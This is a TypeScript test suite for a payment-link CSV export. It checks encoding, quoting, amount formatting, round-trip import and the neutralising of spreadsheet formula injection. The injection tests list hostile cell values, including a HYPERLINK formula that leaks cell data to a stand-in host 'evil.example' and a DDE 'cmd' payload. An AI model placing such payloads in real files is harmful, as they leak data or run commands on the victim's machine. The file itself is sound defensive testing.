import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { PaymentLink } from '@paylink/client/schemas';
import Papa from 'papaparse';
import { CSV_BOM, linksToCsv } from '../../src/engine/csv-export.ts';
import { parseImportCsv } from '../../src/engine/csv-import.ts';

const HEADER =
  'id,status,archived,amount,currency,title,message,reference,invoice,customer name,customer email,' +
  'customer mobile,customer number,language,methods,origin,created at,expires at,paid at,paid method,' +
  'psp reference,refunded amount,url';

function link(overrides: Partial<PaymentLink> = {}): PaymentLink {
  return {
    id: 'pl_1',
    token: 'tok_abcdefghijklmnopqrstuvwxyz',
    url: 'http://localhost:5173/pay.html?token=tok_abcdefghijklmnopqrstuvwxyz',
    status: 'created',
    archived: false,
    amount: 1250,
    currency: 'EUR',
    title: 'Invoice 42',
    reference: 'REF-42',
    customer: { name: 'Jan Peeters' },
    language: 'nl',
    methods: ['bancontact', 'ideal'],
    origin: 'manual',
    refundedAmount: 0,
    createdAt: '2026-11-01T10:00:00.000Z',
    updatedAt: '2026-11-01T10:00:00.000Z',
    ...overrides,
  };
}

/** The cells of the export, parsed back by an independent RFC 4180 reader (after the BOM). */
function cells(csv: string): string[][] {
  assert.ok(csv.startsWith(CSV_BOM), 'the export starts with the byte order mark');
  const parsed = Papa.parse<string[]>(csv.slice(CSV_BOM.length), {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  assert.deepEqual(parsed.errors, []);
  return parsed.data;
}

function cellOf(csv: string, column: string, row = 1): string {
  const table = cells(csv);
  const at = table[0]!.indexOf(column);
  assert.ok(at >= 0, `no column ${column}`);
  return table[row]![at]!;
}

describe('linksToCsv', () => {
  test('an empty export is the byte order mark and the header row alone', () => {
    assert.equal(linksToCsv([]), `\uFEFF${HEADER}\r\n`);
  });

  test('the file is UTF-8 with a BOM, so spreadsheets read é, ü, ø and € right', () => {
    const csv = linksToCsv([link({ title: 'Crème brûlée für Søren', customer: { name: 'Zoë Müller' } })]);
    const bytes = new TextEncoder().encode(csv);
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(csv.indexOf(CSV_BOM, 1), -1, 'one BOM, at the start only');
    assert.equal(cellOf(csv, 'title'), 'Crème brûlée für Søren');
    assert.equal(cellOf(csv, 'customer name'), 'Zoë Müller');
    // Decoded as a spreadsheet does once it has seen the BOM.
    assert.ok(new TextDecoder('utf-8').decode(bytes).startsWith('id,status,'));
  });

  test('a full row, with CRLF line ends', () => {
    const csv = linksToCsv([
      link({
        status: 'paid',
        archived: true,
        message: 'Thanks',
        invoice: 'INV-1',
        customer: {
          id: 'cus_1',
          name: 'Jan',
          email: 'jan@example.be',
          mobile: '0470123456',
          customerNumber: 'K1',
        },
        expiresAt: '2026-12-31T23:59:59.999Z',
        paidAt: '2026-11-02T08:00:00.000Z',
        paidMethod: 'bancontact',
        pspReference: 'psp_9',
        refundedAmount: 250,
      }),
    ]);
    assert.equal(
      csv,
      `\uFEFF${HEADER}\r\n` +
        'pl_1,paid,true,12.50,EUR,Invoice 42,Thanks,REF-42,INV-1,Jan,jan@example.be,0470123456,K1,nl,' +
        'bancontact|ideal,manual,2026-11-01T10:00:00.000Z,2026-12-31T23:59:59.999Z,2026-11-02T08:00:00.000Z,' +
        'bancontact,psp_9,2.50,http://localhost:5173/pay.html?token=tok_abcdefghijklmnopqrstuvwxyz\r\n',
    );
  });

  test('optional fields are empty cells', () => {
    const table = cells(linksToCsv([link()]));
    assert.equal(table[1]!.length, table[0]!.length);
    for (const column of ['message', 'invoice', 'customer email', 'expires at', 'paid at', 'psp reference']) {
      assert.equal(table[1]![table[0]!.indexOf(column)], '', column);
    }
    assert.equal(table[1]![table[0]!.indexOf('refunded amount')], '0.00');
  });

  test('amounts use the currency minor digits and a dot', () => {
    const csv = linksToCsv([
      link({ amount: 5, currency: 'EUR' }),
      link({ amount: 123456789, currency: 'EUR' }),
      link({ amount: 1500, currency: 'JPY' }),
      link({ amount: 1234, currency: 'KWD' }),
      link({ amount: 100, currency: 'BHD' }),
    ]);
    assert.deepEqual(
      cells(csv)
        .slice(1)
        .map((row) => row[3]),
      ['0.05', '1234567.89', '1500', '1.234', '0.100'],
    );
  });

  for (const [name, first] of [
    ['=', '='],
    ['+', '+'],
    ['-', '-'],
    ['@', '@'],
    ['tab', '\t'],
    ['carriage return', '\r'],
  ] as const) {
    test(`a cell starting with ${name} is neutralised with a leading quote`, () => {
      const value = `${first}HYPERLINK("http://evil.example")`;
      const csv = linksToCsv([link({ title: value, customer: { name: value } })]);
      assert.equal(cellOf(csv, 'title'), `'${value}`);
      assert.equal(cellOf(csv, 'customer name'), `'${value}`);
      // Nothing in the raw text starts a cell with the dangerous character.
      assert.ok(!csv.includes(`,${first}HYPERLINK`));
      assert.ok(!csv.includes(`,"${first}HYPERLINK`));
    });
  }

  // Hostile cells: each starts with a formula character and is not only a number, so it gets the `'`.
  for (const value of [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '+32470123456+cmd',
    '+32 470 12 34 56=1',
    '-12.50+A1',
    '- 12.50',
    '+1,2',
    '+12e3',
    '+',
    '-',
    '+32  470 123456',
  ]) {
    test(`the hostile cell ${JSON.stringify(value)} is neutralised in every text column`, () => {
      const csv = linksToCsv([
        link({
          title: value,
          message: value,
          reference: value,
          invoice: value,
          customer: { name: value, email: value, mobile: value, customerNumber: value },
        }),
      ]);
      for (const column of [
        'title',
        'message',
        'reference',
        'invoice',
        'customer name',
        'customer email',
        'customer mobile',
        'customer number',
      ]) {
        assert.equal(cellOf(csv, column), `'${value}`, column);
      }
      // In the raw text too: no cell (at a line start or after a comma, quoted or not) starts a formula.
      assert.doesNotMatch(csv.slice(CSV_BOM.length), /(?:^|\r\n|,)"?[=+\-@\t\r]/, 'no cell starts a formula');
    });
  }

  // Only a number: a phone number or a plain amount stays as written (no `'` for the merchant to see).
  for (const value of [
    '+32470123456',
    '+32 470 12 34 56',
    '+1 555 0100 999',
    '+447911123456',
    '-12.50',
    '+12.50',
    '-3',
    '+100',
  ]) {
    test(`the plain number ${JSON.stringify(value)} stays as written`, () => {
      const csv = linksToCsv([
        link({
          reference: value,
          invoice: value,
          customer: { name: 'Jan', mobile: value, customerNumber: value },
        }),
      ]);
      for (const column of ['reference', 'invoice', 'customer mobile', 'customer number']) {
        assert.equal(cellOf(csv, column), value, column);
      }
      assert.ok(!csv.includes(`'${value}`), csv);
    });
  }

  test('an IBAN and a national phone number stay as written', () => {
    const csv = linksToCsv([
      link({
        reference: 'BE68 5390 0754 7034',
        invoice: 'NL91ABNA0417164300',
        customer: { name: 'Jan', mobile: '0470 12 34 56' },
      }),
    ]);
    assert.equal(cellOf(csv, 'reference'), 'BE68 5390 0754 7034');
    assert.equal(cellOf(csv, 'invoice'), 'NL91ABNA0417164300');
    assert.equal(cellOf(csv, 'customer mobile'), '0470 12 34 56');
  });

  test('the escape is exact for a simple formula', () => {
    const csv = linksToCsv([link({ title: '=1+1' })]);
    assert.ok(csv.includes(",'=1+1,"), csv);
  });

  test('cells with the dangerous character elsewhere are left alone', () => {
    const csv = linksToCsv([link({ title: 'A=B-C+D@E', reference: "'quoted" })]);
    assert.equal(cellOf(csv, 'title'), 'A=B-C+D@E');
    assert.equal(cellOf(csv, 'reference'), "'quoted");
  });

  test('quotes, commas, semicolons and newlines are quoted per RFC 4180', () => {
    const csv = linksToCsv([
      link({ title: 'Say "hi"', message: 'line 1\r\nline 2\nline 3', reference: 'a,b', invoice: 'c;d' }),
    ]);
    assert.ok(csv.includes(',"Say ""hi""",'), csv);
    assert.ok(csv.includes(',"line 1\r\nline 2\nline 3",'), csv);
    assert.ok(csv.includes(',"a,b","c;d",'), csv);
    assert.equal(cellOf(csv, 'title'), 'Say "hi"');
    assert.equal(cellOf(csv, 'message'), 'line 1\r\nline 2\nline 3');
    assert.equal(cells(csv).length, 2);
  });

  test('an export imports back to the same links', () => {
    const links = [
      link(),
      link({
        id: 'pl_2',
        amount: 123456,
        title: '=SUM(A1:A9)',
        message: 'Dear "customer",\nplease pay; thanks',
        reference: '-REF',
        invoice: 'INV, 2',
        customer: {
          name: 'Peeters, Jan',
          email: 'jan@example.be',
          mobile: '+32470123456',
          customerNumber: '@K1',
        },
        language: 'fr-be',
        methods: ['card'],
        expiresAt: '2026-12-31T23:59:59.999Z',
        status: 'paid',
        refundedAmount: 1000,
      }),
      link({ id: 'pl_3', amount: 1500, currency: 'JPY', title: 'Yen', methods: [] }),
      link({ id: 'pl_4', amount: 1, currency: 'KWD', title: 'Fils', customer: { name: '\tTabbed' } }),
    ];
    const rows = parseImportCsv(linksToCsv(links));
    assert.equal(rows.length, links.length);
    rows.forEach((row, i) => {
      const original = links[i]!;
      assert.equal(row.row, i + 2);
      assert.deepEqual(row.errors, []);
      const expected: Record<string, unknown> = {
        amount: original.amount,
        currency: original.currency,
        title: original.title,
        reference: original.reference,
        customer: Object.fromEntries(
          Object.entries({
            name: original.customer.name.trim(),
            email: original.customer.email,
            mobile: original.customer.mobile,
            customerNumber: original.customer.customerNumber,
          }).filter(([, v]) => v !== undefined),
        ),
        language: original.language,
      };
      if (original.message !== undefined) expected.message = original.message;
      if (original.invoice !== undefined) expected.invoice = original.invoice;
      if (original.methods.length > 0) expected.methods = original.methods;
      if (original.expiresAt !== undefined) expected.expiresAt = original.expiresAt;
      assert.deepEqual(row.input, expected);
    });
  });
});
